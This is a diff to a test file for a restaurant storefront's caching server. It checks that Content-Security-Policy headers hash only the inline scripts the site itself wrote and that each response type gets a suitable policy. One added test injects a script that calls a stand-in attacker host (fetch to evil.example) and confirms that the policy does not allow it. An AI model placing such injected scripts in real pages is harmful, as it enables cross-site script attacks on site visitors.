@@ -12,7 +12,7 @@ import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { type Domains, fallback, HostBusyError, type Tenant } from '@/lib/server/tenant/domains';
 import { ResponseCache } from './cached-response';
 import { createRequestHandler } from './caching-server';
-import { inlineScriptHashes } from './script-hashes';
+import { hashScripts, inlineScripts } from './script-hashes';
 
 const restaurants: Record<string, Tenant> = {
   'sg.localhost': { restaurantId: 3473, defaultLocale: 'en', countryCode: 'SG' },
@@ -29,7 +29,7 @@ const domains: Domains = {
 };
 
 const page = (text: string) =>
-  `<!DOCTYPE html><html><body>${text}${'<p>rice</p>'.repeat(50)}<script>self.x=1</script></body></html>`;
+  `<!DOCTYPE html><html><body>${text}${'<p>rice</p>'.repeat(50)}<script>self.__next_f.push([1,"x"])</script></body></html>`;
 
 type Next = (request: IncomingMessage, response: ServerResponse) => void;
 
@@ -130,7 +130,7 @@ describe('a public page', () => {
 
   test('carries a policy with the hash of each inline script', async () => {
     const { headers, body } = await get('/home');
-    const [hash] = inlineScriptHashes(body.toString());
+    const [hash] = hashScripts(inlineScripts(body.toString()));
     expect(headers['content-security-policy']).toContain(`script-src 'self' ${hash};`);
     expect(headers['content-security-policy']).toContain("object-src 'none'");
   });
@@ -262,6 +262,53 @@ describe('revalidation', () => {
     expect((await get('/home')).body.toString()).toBe(page('one'));
     expect(asked).toHaveLength(2);
   });
+});
+
+test('a script that neither Next nor the storefront wrote gets no hash, cached or not', async () => {
+  const injected = 'fetch("https://evil.example")';
+  const write: Next = (_, response) => {
+    response.writeHead(200, { 'content-type': 'text/html', 'cache-control': 's-maxage=60' });
+    response.end(
+      `<head></head><script src="/a.js" async=""></script>${page('one')}<script>${injected}</script>`,
+    );
+  };
+  next = write;
+  for (const path of ['/home', '/home?q=1']) {
+    const policy = String((await get(path)).headers['content-security-policy']);
+    expect(policy).toContain(hashScripts(['self.__next_f.push([1,"x"])'])[0]);
+    expect(policy).not.toContain(hashScripts([injected])[0]);
+  }
+});
+
+test('a page asked for with _rsc in its query has the policy of a page', async () => {
+  const { headers } = await get('/home?_rsc=1');
+  expect(headers['content-security-policy']).toMatch(/script-src 'self' 'sha256-/);
+});
+
+test.each([
+  ['text/html; charset=utf-8', /script-src 'self';/],
+  ['text/x-component', /^default-src 'none'/],
+  ['application/json', /^default-src 'none'/],
+  ['image/svg+xml', /^default-src 'none'/],
+  ['text/javascript; charset=utf-8', /^default-src 'self'/],
+])('an answer of type %s that Next gives directly has a policy', async (type, policy) => {
+  next = (_, response) => {
+    response.setHeader('content-type', type);
+    response.end('x');
+  };
+  for (const path of ['/home', '/orderDetail', '/api/x'])
+    expect((await get(path, { rsc: '1' })).headers['content-security-policy']).toMatch(policy);
+});
+
+test('the policy of a page rendered per request stays its own', async () => {
+  next = (_, response) => {
+    response.writeHead(200, {
+      'content-type': 'text/html',
+      'content-security-policy': "script-src 'nonce-a'",
+    });
+    response.end('x');
+  };
+  expect((await get('/orderDetail')).headers['content-security-policy']).toBe("script-src 'nonce-a'");
 });
 
 describe('an uncacheable response', () => {
